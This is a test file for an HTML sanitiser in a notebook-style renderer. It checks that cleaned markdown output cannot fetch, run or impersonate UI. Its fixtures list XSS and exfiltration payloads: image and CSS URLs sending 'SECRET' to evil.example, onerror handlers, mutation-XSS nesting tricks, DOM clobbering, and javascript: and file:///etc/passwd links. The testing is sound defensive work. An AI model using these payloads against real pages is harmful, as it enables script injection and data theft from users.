import { describe, expect, test } from 'vitest';
import { cleanHtml } from '../../src/hosts/lab/render/clean';

const paths: string[] = [];

function clean(html: string): HTMLElement {
  const host = document.createElement('div');
  host.append(
    cleanHtml(html, {
      imageLabel: (alt, from) => `[image ${alt} ${from}]`,
      onPath: path => paths.push(path)
    })
  );
  return host;
}

const FETCHING = '[src]:not([src^="data:image/"]), [srcset], [poster], [style], [background], [xlink\\:href]';

/** Attacks of the threat list, as HTML that a markdown parser lets through. */
const ATTACKS: Readonly<Record<string, string>> = {
  'remote image': '<img src="https://evil.example/p.png?d=SECRET" alt="x">',
  picture: '<picture><source srcset="https://evil.example/a"></picture>',
  'video and audio': '<video poster="https://evil.example/b"></video><audio src="https://e.example/d"></audio>',
  prefetch: '<link rel="prefetch" href="https://evil.example/c">',
  'style sheet': '<style>@import url(https://evil.example/x.css)</style>',
  'style attribute': '<p style="background:url(https://evil.example/y)">t</p>',
  'event handler': '<img src=x onerror="window.__pwn=1"><svg onload="window.__pwn=1"></svg>',
  frame: '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>',
  form: '<form action="https://evil.example"><input name=x><button formaction="//e">b</button></form>',
  base: '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil">',
  'command attribute': '<button data-commandlinker-command="runmenu:run-all">Continue</button>',
  clobbering: '<a id="MathJax"></a><form name="vitto"></form><p id="jupyter-config-data" name="x">t</p>',
  'dialog look': '<div class="jp-Dialog lm-Widget">Press Allow</div><span class="vitto-Icon">x</span>',
  script: '<script>window.__pwn=1</script>',
  'svg image': '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  'svg link': '<svg><a xlink:href="javascript:window.__pwn=1">x</a></svg>',
  'broken nesting': '<table><td><script><p title="</script><img src=x onerror=window.__pwn=1>">',
  mathml: '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwn=1>',
  template: '<template><img src=x onerror=window.__pwn=1></template><noscript><img src=x></noscript>'
};

describe('nothing fetches, runs or pretends', () => {
  test.each(Object.entries(ATTACKS))('%s', (_, html) => {
    const host = clean(html);
    expect(host.querySelectorAll(FETCHING)).toHaveLength(0);
    expect(host.querySelectorAll('script, style, iframe, form, button, svg, link, base, meta')).toHaveLength(0);
    const attributes = Array.from(host.querySelectorAll('*')).flatMap(node => node.getAttributeNames());
    expect(attributes.filter(name => /^on|^data-|^id$|^name$|^style$/.test(name))).toEqual([]);
    const classes = Array.from(host.querySelectorAll('[class]')).map(node => node.className);
    expect(classes.filter(name => /jp-|lm-|vitto-Icon/.test(name))).toEqual([]);
  });
});

test('an image that would be fetched is named, with its host', () => {
  expect(clean('<img src="https://evil.example/p.png" alt="chart">').textContent).toBe(
    '[image chart evil.example]'
  );
});

test('an embedded picture is drawn', () => {
  expect(clean('<img src="data:image/png;base64,iVBORw0KGgo=" alt="a">').querySelector('img')?.alt).toBe('a');
});

test.each([
  'javascript:window.__pwn=1',
  'JaVa\tScRiPt:window.__pwn=1',
  'data:text/html,<script>1</script>',
  'vbscript:x',
  'file:///etc/passwd',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'blob:x',
  '../../secret'
])('a link to %s is only text', target => {
  const link = document.createElement('a');
  link.setAttribute('href', target);
  link.textContent = 'go';
  const host = clean(link.outerHTML);
  expect(host.querySelector('a')).toBeNull();
  expect(host.textContent).toBe('go');
});

test('a web link opens elsewhere, tells nobody where from, and shows a host its text hides', () => {
  const host = clean('<a href="https://evil.example/?q=SECRET">https://docs.python.org</a>');
  const link = host.querySelector('a');
  expect([link?.target, link?.rel, link?.title]).toEqual([
    '_blank',
    'noopener noreferrer nofollow',
    'https://evil.example/?q=SECRET'
  ]);
  expect(host.textContent).toBe('https://docs.python.org (evil.example)');
});

test('a link whose text is its address is shown once', () => {
  expect(clean('<a href="https://docs.python.org/3/">https://docs.python.org/3/</a>').textContent).toBe(
    'https://docs.python.org/3/'
  );
});

test('a link to a file of the workspace goes through the host', () => {
  const host = clean('<a href="./src/a%20b.py#L3">a</a>');
  const link = host.querySelector('a');
  expect(link?.hasAttribute('href')).toBe(false);
  link?.click();
  expect(paths).toEqual(['src/a b.py']);
});

test('ordinary markdown stays', () => {
  const html =
    '<h2>T</h2><p>a <strong>b</strong> <em>c</em> <code>d</code></p>' +
    '<pre><code class="language-python"><span class="\u037c12">x</span></code></pre>' +
    '<ol start="3"><li>x</li></ol><table><thead><tr><th align="right">n</th></tr></thead></table>' +
    '<ul><li><input type="checkbox" disabled="" checked=""> done</li></ul>';
  expect(clean(html).innerHTML.replace('<input type="checkbox" disabled="">', '<box>')).toBe(
    html.replace('<input type="checkbox" disabled="" checked="">', '<box>')
  );
  expect(clean(html).querySelector('input')?.checked).toBe(true);
});

test('tags in a code block are text', () => {
  const host = clean('<pre><code class="language-html">&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>');
  expect(host.textContent).toBe('<script>alert(1)</script>\n');
});

test('very deep nesting is flattened, its text kept', () => {
  const host = clean(`${'<blockquote>'.repeat(400)}deep`);
  expect(host.textContent).toBe('deep');
  let depth = 0;
  for (let node = host.firstElementChild; node; node = node.firstElementChild) {
    depth++;
  }
  expect(depth).toBeLessThan(100);
});
